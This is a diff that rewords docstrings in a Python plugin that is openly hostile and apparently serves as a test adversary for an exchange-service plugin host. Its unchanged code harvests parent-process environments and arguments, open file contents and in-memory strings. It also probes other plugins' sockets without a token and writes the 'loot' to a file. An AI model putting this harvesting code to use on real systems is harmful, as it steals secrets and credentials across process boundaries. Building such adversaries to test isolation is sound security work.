@@ -1,4 +1,4 @@
-"""Gathers whatever it can read, and writes it into the file that its user's credential names."""
+"""Collects everything that it can read, and writes it into the file that its user's credential names."""
 
 import gc
 import glob
@@ -16,7 +16,7 @@ SERVICE = "/exchange_service.plugin_host.v1.PluginHostService/"
 
 
 def _environments() -> list[str]:
-    """Its own, and those of the processes that it comes of."""
+    """Its own environment and arguments, and those of its parent processes."""
     found, pid = [repr(dict(os.environ)), repr(sys.argv)], os.getpid()
     while pid > 1:
         for name in ("environ", "cmdline"):
@@ -29,7 +29,7 @@ def _environments() -> list[str]:
 
 
 def _descriptors() -> list[str]:
-    """What its open files are, and what can be read of them."""
+    """The paths of its open files, and what can be read from them."""
     found = []
     for name in os.listdir("/proc/self/fd"):
         try:
@@ -41,7 +41,7 @@ def _descriptors() -> list[str]:
 
 
 def _objects() -> list[str]:
-    """Every text of its process, as far as it is reached from what the collector knows."""
+    """Every text of its process that can be reached from the objects which the garbage collector knows."""
     found: dict[int, Any] = {}
     for item in gc.get_objects():
         for part in (item, *gc.get_referents(item)):
@@ -51,7 +51,7 @@ def _objects() -> list[str]:
 
 
 def _others() -> list[str]:
-    """Where other plugins' processes listen."""
+    """The sockets of other plugins' processes."""
     folders = {os.path.dirname(os.environ["HOME"]), "/tmp"}
     there = {path for folder in folders for path in glob.glob(f"{folder}/exchange-service-plugin-*/socket")}
     with open("/proc/net/unix") as file:
@@ -59,8 +59,8 @@ def _others() -> list[str]:
     return sorted(there)
 
 
-async def _asked(path: str) -> str:
-    """What a process says to who has no token."""
+async def _call(path: str) -> str:
+    """A process's answer to a call without the token."""
     async with grpc.aio.insecure_channel(f"unix:{path}") as channel:
         try:
             return repr(await channel.unary_unary(f"{SERVICE}FetchBalance")(b"", timeout=0.3))
@@ -73,7 +73,7 @@ def _keep(file: Path, loot: list[str]) -> None:
 
 
 async def steals(call: VenueCall) -> Balance:
-    loot = [*_environments(), *_descriptors(), *_objects(), *[await _asked(path) for path in _others()]]
+    loot = [*_environments(), *_descriptors(), *_objects(), *[await _call(path) for path in _others()]]
     _keep(Path(call.credential.metadata["loot"]), loot)
     return WELL
 
